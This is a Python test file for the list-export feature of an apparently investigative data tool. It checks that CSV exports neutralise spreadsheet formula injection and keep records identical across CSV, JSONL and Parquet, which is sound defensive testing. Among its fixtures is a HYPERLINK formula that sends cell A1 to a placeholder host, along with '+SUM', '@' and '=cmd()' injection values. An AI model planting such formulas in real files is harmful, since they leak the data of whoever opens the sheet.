"""What lists hold, for other programs: nothing is lost, and no cell of a CSV is taken for a formula."""

from __future__ import annotations

import csv
import json
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import duckdb
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from corroborate.case import Case
from corroborate.cli.main import run
from corroborate.errors import InputError, SettingError
from corroborate.lists import Imported, Mapping, Options, export, import_list, unguarded
from corroborate.lists.exporting import FORMULA
from corroborate.model.source import Handling, Nature, Sensitivity
from corroborate.report.exports import FORMULA as OF_REPORTS

from .conftest import HEADER, Write, row

NOW = datetime(2025, 3, 10, 12, 0, tzinfo=UTC)
EVIL = '=HYPERLINK("http://x.example/?"&A1,"more")'
ROWS = [
    row("1", What="two\nlines", Who=EVIL),
    row("2", Lat="91"),
    row("3", Dead="at least 12", Most="", Place=" +SUM(1)"),
    row("4", Day="", Dead="", Least="", Most="", Who="", Lat="", Lon="", Province="", Place="'quoted"),
    row("5", Dead="@dozens"),
]


@pytest.fixture
def parts(write: Write, mapping: Mapping, tmp_path: Path) -> list[Imported]:
    import_list(write(ROWS), tmp_path / "out", name="ours", options=Options(mapping))
    return [Imported("ours", "ours.csv", tmp_path / "out")]


def rows_of(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def test_no_cell_of_a_csv_is_taken_for_a_formula(parts: list[Imported], tmp_path: Path) -> None:
    assert set("".join(OF_REPORTS)) <= set(FORMULA)
    for what in ("records", "rejects", "raw"):
        target = tmp_path / f"{what}.csv"
        assert export(parts, target, what) == len(rows_of(target)) > 0
        # Longitudes may be negative; words may not begin so.
        for one in rows_of(target):
            for cell in one.values():
                risky = cell.lstrip(" ").startswith(tuple(FORMULA))
                assert not risky or float(cell) < 0
    first, second, third = rows_of(tmp_path / "records.csv")
    assert json.loads(first["actors"])[0]["name"] == EVIL
    assert unguarded(second["settlement"]) == "+SUM(1)"
    assert unguarded(third["settlement"]) == "'quoted"
    assert (second["deaths_low"], second["deaths_high"]) == ("3.0", "")


def test_rejects_are_written_with_their_place_and_cells(parts: list[Imported], tmp_path: Path) -> None:
    export(parts, tmp_path / "rejects.csv", "rejects")
    found = rows_of(tmp_path / "rejects.csv")
    told = [(r["line"], r["column"], unguarded(r["value"])) for r in found]
    assert told == [("4", "Lat", "91"), ("7", "Dead", "@dozens")]
    assert json.loads(found[1]["row"])["Place"] == "Herat"


def test_every_format_holds_the_same_records(parts: list[Imported], tmp_path: Path) -> None:
    for ending in (".csv", ".jsonl", ".parquet"):
        export(parts, tmp_path / f"r{ending}")
    lines = [json.loads(line) for line in (tmp_path / "r.jsonl").read_text("utf-8").splitlines()]
    table = duckdb.sql(f"SELECT * FROM read_parquet('{tmp_path / 'r.parquet'}')")
    whole = [dict(zip(table.columns, r, strict=True)) for r in table.fetchall()]
    assert (
        [one["place"] for one in lines] == [one["place"] for one in whole] == ["Herat", "+SUM(1)", "'quoted"]
    )
    assert lines[0]["actors"] == whole[0]["actors"] == json.loads(rows_of(tmp_path / "r.csv")[0]["actors"])
    for flat, one in zip(rows_of(tmp_path / "r.csv"), lines, strict=True):
        assert list(flat) == list(one)
        for name, value in one.items():
            cell: Any = unguarded(flat[name])
            same = json.loads(cell) if isinstance(value, list) else cell
            assert same == ("" if value is None else value if isinstance(value, list) else str(value))


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    cells=st.lists(
        st.text(st.characters(blacklist_categories=["Cs"], blacklist_characters="\0"), max_size=12),
        min_size=2,
        max_size=6,
    )
)
def test_cells_come_back_as_they_stood(
    cells: list[str], write: Write, mapping: Mapping, tmp_path: Path
) -> None:
    path = write([row("1", Who=cell) for cell in cells])
    with path.open(encoding="utf-8", newline="") as file:
        stood = [one["Who"] for one in csv.DictReader(file)]
    import_list(path, tmp_path / "any", name="any", options=Options(mapping))
    target = tmp_path / "any.csv"
    export([Imported("any", "any.csv", tmp_path / "any")], target, "raw")
    assert [unguarded(one["Who"]) for one in rows_of(target)] == stood
    assert list(rows_of(target)[0]) == list(HEADER)


def test_headers_are_made_safe_and_apart(tmp_path: Path) -> None:
    path = tmp_path / "odd.csv"
    path.write_text('=cmd(),date,Date,"a ""b"""\n1,2024-01-02,x,2\n3,2024-01-03,y,4\n', "utf-8")
    mapping = {"name": "odd", "columns": {"begin": "date"}}
    from corroborate.lists import from_dict

    import_list(path, tmp_path / "odd", options=Options(from_dict(mapping)))
    export([Imported("odd", "odd.csv", tmp_path / "odd")], tmp_path / "o.csv", "raw")
    assert list(rows_of(tmp_path / "o.csv")[0]) == ["'=cmd()", "date", "Date (2)", 'a "b"']


def test_what_cannot_be_exported_is_said(parts: list[Imported], tmp_path: Path) -> None:
    for target, what in ((tmp_path / "x.xml", "records"), (tmp_path / "x.csv", "all")):
        with pytest.raises(SettingError):
            export(parts, target, what)
    with pytest.raises(InputError):
        export([], tmp_path / "x.csv")
    assert not (tmp_path / "x.csv").exists()


def test_the_command_writes_a_case(write: Write, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    case = Case.create(tmp_path / "case", title="Attacks", question="How many?", now=NOW)
    columns = {"id": "ID", "begin": "Day", "settlement": "Place", "deaths": "Dead"}
    toml = case.path / "case.toml"
    for name, handling in (("ours", Handling()), ("theirs", Handling(Sensitivity.RESTRICTED))):
        path = write(ROWS[:3], name=f"{name}.csv")
        path.write_bytes(path.read_bytes() + name.encode() + b",2024-03-09" + b"," * 11 + b"\r\n")
        case.add(path, list_name=name, nature=Nature.LIST, handling=handling, now=NOW)
        told = "\n".join(f'{noun} = "{column}"' for noun, column in columns.items())
        table = f'\n[[list]]\nname = "{name}"\ndates = ["iso"]\n[list.columns]\n{told}\n'
        toml.write_text(toml.read_text("utf-8") + table, "utf-8")
    case.run(now=NOW)
    target = tmp_path / "all.csv"
    assert run(["lists", "export", str(case.path), str(target), "--json"]) == 0
    told = json.loads(capsys.readouterr().out)
    assert told["data"]["rows"] == 8 == len(rows_of(target))
    assert {one["list"] for one in rows_of(target)} == {"ours", "theirs"}
    assert "theirs is not open" in told["warnings"][0]
    assert run(["lists", "export", str(case.path), str(target), "--list", "ours"]) == 0
    assert {(one["list"], one["file"]) for one in rows_of(target)} == {("ours", "ours.csv")}
    assert run(["lists", "export", str(case.path), str(target), "--list", "none"]) != 0
    assert len(rows_of(target)) == 4
